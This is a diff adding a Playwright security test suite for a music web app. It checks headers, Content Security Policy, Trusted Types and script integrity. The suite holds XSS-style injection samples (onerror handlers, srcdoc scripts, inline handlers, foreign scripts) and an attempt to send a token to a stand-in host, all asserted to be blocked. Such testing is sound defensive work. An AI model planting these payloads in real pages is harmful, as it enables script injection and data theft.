@@ -1,0 +1,289 @@
+import type { APIResponse, Page } from '@playwright/test';
+import { EMULATED_AUTH, httpsHeaders, securityHeaders } from '../../../scripts/site/index.ts';
+import { waitForServices } from '../../fixtures/services.ts';
+import { changePage, changePageData } from '../../fixtures/changedPage.ts';
+import { spreadTest } from '../../fixtures/remoteSites.ts';
+import { expect, test } from '../../fixtures/test.ts';
+import { showPage } from '../../fixtures/windowEvents.ts';
+
+const A_PAGE = { accept: 'text/html' };
+
+/** The registry's entry of a remote, as far as these tests change it. */
+interface Registration {
+  readonly name: string;
+  readonly entry: string;
+  readonly integrity: Readonly<Record<string, string>>;
+}
+
+interface PageData {
+  readonly remotes: readonly Registration[];
+}
+
+/** The browser's Trusted Types API. */
+interface TypedWindow {
+  readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
+}
+
+/** A registry entry of a remote whose files are on `origin`. */
+function movedTo(origin: string, registration: Registration): Registration {
+  const there = (url: string): string => origin + new URL(url).pathname;
+  return {
+    ...registration,
+    entry: there(registration.entry),
+    integrity: Object.fromEntries(
+      Object.entries(registration.integrity).map(([url, hash]) => [there(url), hash]),
+    ),
+  };
+}
+
+/** The site's headers that differ on answers of the music API. */
+const MUSIC_HEADERS = {
+  ...securityHeaders({ auth: EMULATED_AUTH }),
+  'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
+  'cross-origin-resource-policy': 'same-site',
+  'referrer-policy': 'no-referrer',
+};
+
+const unavailable = (page: Page, label: string) =>
+  page.getByRole('alert').filter({ hasText: `${label} is not available right now.` });
+
+test('every answer carries the security headers and redirects nowhere else', async ({
+  request,
+  baseURL,
+}) => {
+  const page = await request.get('/', { headers: A_PAGE });
+  const [, script = ''] = /<script src="([^"]+)"/.exec(await page.text()) ?? [];
+  const account = '/identitytoolkit.googleapis.com/v1/projects';
+  const answers: readonly (readonly [string, number, APIResponse])[] = [
+    ['the page', 200, page],
+    ['a route', 200, await request.get('/concerts', { headers: A_PAGE })],
+    ['the 404 page', 404, await request.get('/radio', { headers: A_PAGE })],
+    ['a script', 200, await request.get(script)],
+    ['a picture', 200, await request.get('/icon.svg')],
+    ['the notices', 200, await request.get('/third-party-notices.txt')],
+    ['music', 200, await request.get('/api/music/search?q=jazz')],
+    ['the sign-in service', 200, await request.get(`${account}?key=demo-key`)],
+    [
+      'a forbidden endpoint of the identity service',
+      404,
+      await request.get(`${account}/demo-prelude/accounts`),
+    ],
+    ['a malformed address', 404, await request.get('/%ff')],
+    [
+      'a host name of elsewhere that resolves to this machine',
+      421,
+      await request.get('/', { headers: { ...A_PAGE, host: 'elsewhere.example' } }),
+    ],
+  ];
+  const headers = securityHeaders({ auth: EMULATED_AUTH });
+  for (const [what, status, answer] of answers) {
+    expect(answer.status(), what).toBe(status);
+    // Answers that are never pages have their own, stricter policy.
+    const isMusic = new URL(answer.url()).pathname.startsWith('/api/music/');
+    expect(answer.headers(), what).toMatchObject(isMusic ? MUSIC_HEADERS : headers);
+  }
+  for (const path of ['//elsewhere.example', '/concerts/', '/shell', '/remotes/player']) {
+    const answer = await request.get(`${baseURL}${path}`, { headers: A_PAGE, maxRedirects: 0 });
+    expect(answer.headers(), path).toMatchObject(headers);
+    expect(answer.headers()['location'], path).toBeUndefined();
+  }
+  const byHttps = await request.get('/', { headers: { 'x-forwarded-proto': 'https' } });
+  expect(byHttps.headers()).toMatchObject(httpsHeaders);
+  expect(page.headers()).not.toHaveProperty('strict-transport-security');
+});
+
+test('no screen violates the security policy', async ({
+  page,
+  asMember,
+  home,
+  player,
+  expectedErrors,
+}) => {
+  expectedErrors.push(/^\[404\]/, /status of 404/);
+  // The fixtures fail a test on every violation.
+  await asMember();
+  await home.playButtons('Trending Now').first().click();
+  await player.expectSoundToAdvance();
+  for (const [key, heading] of [
+    ['search', 'Search'],
+    ['library', 'Your Library'],
+    ['favorites', 'Liked Songs'],
+    ['recent', 'Recently Played'],
+    ['settings', 'Account Settings'],
+    ['concerts', 'Upcoming Concerts'],
+  ] as const) {
+    await showPage(page, key);
+    await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible();
+  }
+  await waitForServices(page);
+  await page.keyboard.press('?');
+  await expect(page.getByRole('dialog', { name: 'Keyboard shortcuts' })).toBeVisible();
+  await page.goto('/concerts');
+  await expect(page.getByRole('heading', { level: 1, name: 'Upcoming Concerts' })).toBeVisible();
+  await page.goto('/radio');
+  await expect(page.getByText('Oops! Page not found')).toBeVisible();
+});
+
+const ELSEWHERE = 'https://elsewhere.example';
+
+/** The requests to the foreign host so far; they are aborted, as there is no network in tests. */
+async function askedOf(page: Page): Promise<readonly string[]> {
+  const asked: string[] = [];
+  await page.route(`${ELSEWHERE}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  return asked;
+}
+
+/** Attempts of an attacker who controls a text that the page's code handles; each is made in the page. */
+const BREACHES: Readonly<Record<string, () => unknown>> = {
+  'markup of an element': () =>
+    (document.body.innerHTML = '<img src="/gone.png" onerror="window.ran = true">'),
+  'markup next to an element': () =>
+    document.body.insertAdjacentHTML('beforeend', '<img src="/gone.png" onerror="window.ran = 1">'),
+  'a frame with markup': () =>
+    (document.createElement('iframe').srcdoc = '<script>parent.ran = true</script>'),
+  'a parsed page': () => new DOMParser().parseFromString('<b>Hear</b>', 'text/html'),
+  'a text for a script': () => (document.createElement('script').text = 'window.ran = true'),
+  // The type does not allow strings any more, browsers do.
+  'a text for later': () => setTimeout('window.ran = true' as unknown as () => void),
+  'a handler': () => document.body.setAttribute('onclick', 'window.ran = true'),
+  'a script of elsewhere': () =>
+    (document.createElement('script').src = 'https://elsewhere.example/script.js'),
+  'a script that the registry does not name': () =>
+    (document.createElement('script').src = '/shell/unknown.js'),
+  'a script of Google’s, where no real project is configured': () =>
+    (document.createElement('script').src = 'https://apis.google.com/js/api.js'),
+  'a policy that lets everything through': () =>
+    (window as unknown as TypedWindow).trustedTypes.createPolicy('own', {
+      createHTML: (text: string) => text,
+    }),
+  'a policy in the shell’s place': () =>
+    (window as unknown as TypedWindow).trustedTypes.createPolicy('default', {
+      createHTML: (text: string) => text,
+    }),
+};
+
+test('in the page no text runs as markup or code, no script without its integrity, and no data leaves', async ({
+  page,
+  asGuest,
+  home,
+  expectedErrors,
+}) => {
+  expectedErrors.push(/security policy/i, /Trusted/, /integrity/i);
+  const asked = await askedOf(page);
+  await asGuest();
+  await expect(home.greeting).toBeVisible();
+  for (const [what, act] of Object.entries(BREACHES))
+    await test.step(what, async () => {
+      await expect(page.evaluate(act)).rejects.toThrow(/Trusted|No integrity is known for/);
+      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
+    });
+
+  await test.step('a script of the product, with and without its integrity', async () => {
+    const outcome = await page.evaluate(async () => {
+      const { remotes } = JSON.parse(
+        document.getElementById('prelude-page')?.textContent ?? '',
+      ) as PageData;
+      const [known] = remotes;
+      const [url = '', hash = ''] = Object.entries(known?.integrity ?? {})[0] ?? [];
+      const load = (integrity: string): Promise<string> =>
+        new Promise((resolve) => {
+          const script = document.createElement('script');
+          script.src = url;
+          script.crossOrigin = 'anonymous';
+          script.integrity = integrity;
+          script.addEventListener('load', () => resolve('ran'));
+          script.addEventListener('error', () => resolve('refused'));
+          document.head.append(script);
+        });
+      return { without: await load(''), with: await load(hash) };
+    });
+    expect(outcome).toEqual({ without: 'refused', with: 'ran' });
+  });
+
+  await test.step('pictures and sound of a foreign host', async () => {
+    const blocked = await page.evaluate(async (elsewhere) => {
+      const directives: string[] = [];
+      const both = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          // The policy also reports the attempts before.
+          if (!/^(img|media)-src$/.test(effectiveDirective)) return;
+          if (directives.push(effectiveDirective) === 2) resolve();
+        });
+      });
+      new Image().src = `${elsewhere}/?token=secret`;
+      new Audio().src = `${elsewhere}/?token=secret`;
+      await both;
+      return directives;
+    }, ELSEWHERE);
+    expect([...blocked].sort()).toEqual(['img-src', 'media-src']);
+    expect(asked).toEqual([]);
+  });
+});
+
+test('the shell does not run if its page lacks the hashes, and the page says so', async ({
+  page,
+  expectedErrors,
+}) => {
+  expectedErrors.push(/integrity/i);
+  await changePage(page, (html) => html.replace(/(<script src[^>]*?) integrity="[^"]*"/g, '$1'));
+  await page.goto('/');
+  const words = page.getByRole('heading', { name: 'Something went wrong' });
+  await expect(words).toBeVisible({ timeout: 20_000 });
+  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
+});
+
+spreadTest.describe('a remote on a separate origin', () => {
+  spreadTest(
+    'is loaded from the configured origin, and the music plays',
+    async ({ page, asGuest, home, player, playerSite, spreadSite }) => {
+      // The page's server has these files as well: none may be loaded from it.
+      await page.route(`${spreadSite.origin}/remotes/player/**`, (route) => route.abort());
+      const policy = (await page.request.get('/')).headers()['content-security-policy'];
+      expect(policy).toContain(`script-src 'self' ${playerSite.origin};`);
+      expect(policy).toContain(`style-src 'self' ${playerSite.origin};`);
+      await asGuest();
+      await home.playButtons('Trending Now').first().click();
+      await player.expectSoundToAdvance();
+      expect(playerSite.asked.length).toBeGreaterThan(0);
+      expect(playerSite.asked.filter((path) => !path.startsWith('/remotes/player/'))).toEqual([]);
+      expect(new Set(playerSite.asked).size, 'preloads are used: nothing comes twice').toBe(
+        playerSite.asked.length,
+      );
+    },
+  );
+
+  spreadTest(
+    'that is not configured is refused by the shell, which requests no file of it, and by the browser',
+    async ({ page, asGuest, home, spreadSite, strangeSite, expectedErrors }) => {
+      expectedErrors.push(/^\[player\]/, /security policy/i);
+      spreadSite.changePage((html) =>
+        changePageData<PageData>((data) => ({
+          ...data,
+          remotes: data.remotes.map((remote) =>
+            remote.name === 'player' ? movedTo(strangeSite.origin, remote) : remote,
+          ),
+        }))(html.replace(/<link rel="preload"[^>]*>/g, '')),
+      );
+      await asGuest();
+      await expect(unavailable(page, 'The player')).toBeVisible();
+      await expect(unavailable(page, 'The player').getByRole('button')).toHaveCount(0);
+      await expect(home.greeting).toBeVisible();
+
+      const said = page.waitForEvent('console', (message) =>
+        message.text().startsWith(`The security policy blocked ${strangeSite.origin}`),
+      );
+      spreadSite.changePage((html) => {
+        const [, file = '', hash = ''] =
+          /href="[^"]*(\/remotes\/player\/[^"]+\.js)"[^>]* integrity="([^"]+)"/.exec(html) ?? [];
+        const script = `<script src="${strangeSite.origin}${file}" integrity="${hash}" crossorigin="anonymous"></script>`;
+        return html.replace('</head>', `${script}</head>`);
+      });
+      await page.goto('/');
+      expect((await said).text()).toContain('by script-src-elem');
+      expect(strangeSite.asked).toEqual([]);
+    },
+  );
+});
